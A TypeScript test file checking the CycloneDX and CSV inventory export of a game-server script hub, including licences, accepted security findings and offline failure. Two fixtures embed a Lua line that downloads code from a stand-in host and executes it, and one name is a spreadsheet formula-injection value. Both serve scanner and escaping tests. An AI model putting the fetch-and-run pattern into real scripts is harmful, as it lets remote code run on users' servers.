import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'

import { Ajv } from 'ajv'
import formats from 'ajv-formats'
import { expect, test } from 'vitest'

import { licenses } from '#contract/scripts/licenses.ts'
import { createGameServer, publishScript, resourceFiles, startHub } from '#test-support/game-server.ts'
import { createOutdatedServer } from '#test-support/outdated-server.ts'

const app = await startHub()
const author = await app.createUser('scripts.upload', 'scripts.download')

/** The schemas of CycloneDX, as its library has them. */
const library = fileURLToPath(import.meta.resolve('@cyclonedx/cyclonedx-library/package.json'))
const schemaOf = (name: string) =>
  JSON.parse(readFileSync(join(library, '../res/schema', `${name}.SNAPSHOT.schema.json`), 'utf8'))
const ajv = new Ajv({ strict: false, allErrors: true })
formats.default(ajv)
ajv.addFormat('iri-reference', (text) => URL.canParse(text, 'https://base.example'))
ajv.addFormat('idn-email', /@/)
for (const name of ['spdx', 'jsf-0.82'])
  ajv.addSchema(schemaOf(name), `http://cyclonedx.org/schema/${name}.SNAPSHOT.schema.json`)
const isCycloneDx = ajv.compile(schemaOf('bom-1.6'))

/** What the schema says of an inventory. */
function errorsOf(inventory: string) {
  isCycloneDx(JSON.parse(inventory))
  return isCycloneDx.errors
}

test('the inventory of an empty server, and one with all that it can contain, is valid CycloneDX 1.6', async () => {
  const empty = await createGameServer({ token: author.token })
  await empty.run('init', app.url)
  expect(errorsOf((await empty.run('export')).stdout)).toBeNull()
  expect(errorsOf('{"bomFormat":"CycloneDX","specVersion":"1.6","version":0}')).not.toBeNull()

  const server = await createGameServer({ token: author.token })
  await server.run('init', app.url)
  const base = await publishScript(app, author, 'Läden & <Preise>', resourceFiles('shop_lib'), {
    license: 'LicenseRef-Other',
  })
  const shop = await publishScript(
    app,
    author,
    'Shop',
    resourceFiles('shop', {
      needs: ['shop_lib', 'oxmysql'],
      files: {
        'server.lua': "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n",
      },
    }),
    { license: 'AGPL-3.0-or-later' },
  )
  await server.run('add', String(shop.id), '--yes')
  await acceptFindings(server, shop.id)
  const locked = JSON.parse(await server.read('scripthaven.lock'))
  // A script that is on no hub any more has no licence.
  locked.scripts[999_999] = { ...locked.scripts[base.id], name: 'Gone', needs: {} }
  await server.write('scripthaven.lock', JSON.stringify(locked))

  const { stdout } = await server.run('export')

  expect(errorsOf(stdout)).toBeNull()
  expect(JSON.parse(stdout).components).toMatchObject([
    { name: 'Läden & <Preise>', licenses: [{ license: { name: 'Other licence' } }] },
    { name: 'Shop', licenses: [{ license: { id: 'AGPL-3.0-or-later' } }] },
    { name: 'Gone' },
  ])
})

test('a spreadsheet reads CSV without calculating, and the day of the installation is in it', async () => {
  const { id } = await publishScript(app, author, '=SUM(1,2) "x"', resourceFiles('sum'))
  const server = await createGameServer({ token: author.token })
  await server.run('init', app.url)
  await server.run('add', String(id), '--yes')

  const [head, row = ''] = (await server.run('export', '--format', 'csv')).stdout.split('\r\n')

  expect(head).toMatch(/^script,name,author,version,license,sha256,url,installed at,/)
  expect(row).toContain(`${id},"'=SUM(1,2) ""x""",${author.username},1.0.0,`)
  expect(row).toMatch(/,\d{4}-\d\d-\d\dT[^,]*Z,sum,/)
  expect(JSON.parse((await server.run('export')).stdout).components[0].properties).toContainEqual({
    name: 'scripthaven:installedAt',
    value: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
  })
})

test('CycloneDX knows each licence of a script by its identifier', () => {
  const known: string[] = schemaOf('spdx').enum

  expect(
    licenses.filter((license) => !license.startsWith('LicenseRef-') && !known.includes(license)),
  ).toEqual([])
})

test('export names the findings that the owner and moderators accepted', async () => {
  const { server, id } = await createOutdatedServer(
    app,
    author,
    {},
    { 'server.lua': "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n" },
  )
  const { rule, path } = await acceptFindings(server, id)

  const [component] = JSON.parse((await server.run('export')).stdout).components
  const csv = await server.run('export', '--format', 'csv')

  const accepted = expect.stringContaining(`${rule} in ${path}: The host is the author himself (20`)
  expect(component.properties).toEqual(
    expect.arrayContaining([
      { name: 'scripthaven:findingAcceptedByOwner', value: 'reads-players' },
      { name: 'scripthaven:findingAcceptedByModerator', value: accepted },
    ]),
  )
  expect(csv.stdout).toContain(`reads-players,${rule} in ${path}: The host is the author himself (20`)
})

test('without the hub there is no inventory that lacks what the hub knows; a script that was taken down is in it', async () => {
  const { server, id } = await createOutdatedServer(app, author, {})
  const project = await server.read('scripthaven.json')
  const lock = await server.read('scripthaven.lock')
  const owner = await app.createOwner()
  await app.request(owner, 'POST', `/api/scripts/${id}/removal`, { reason: 'stolen' })
  expect(JSON.parse((await server.run('export')).stdout).components).toHaveLength(1)

  // No server listens on this port.
  await server.write('scripthaven.json', project.replace(app.url, 'http://127.0.0.1:1'))
  await server.write('scripthaven.lock', lock.replace(app.url, 'http://127.0.0.1:1'))

  expect(await server.run('export')).toMatchObject({
    code: 4,
    stdout: '',
    stderr: expect.stringContaining('does not respond'),
  })
})

/** One by a moderator, another one in scripthaven.json. */
async function acceptFindings(server: Awaited<ReturnType<typeof createGameServer>>, id: number) {
  const { versionId } = JSON.parse(await server.read('scripthaven.lock')).scripts[id]
  const { findings } = (await app.request(null, 'GET', `/api/versions/${versionId}/report`)).body
  const [{ rule, path, fileSha256 }] = findings
  const verdict = { verdict: 'accepted', note: 'The host is the author himself' }
  const owner = await app.createOwner()
  await app.request(owner, 'PUT', `/api/finding-verdicts/${rule}/${fileSha256}`, verdict)
  const project = JSON.parse(await server.read('scripthaven.json'))
  const allowFindings = { [id]: ['reads-players'] }
  await server.write('scripthaven.json', JSON.stringify({ ...project, allowFindings }))
  return { rule, path }
}
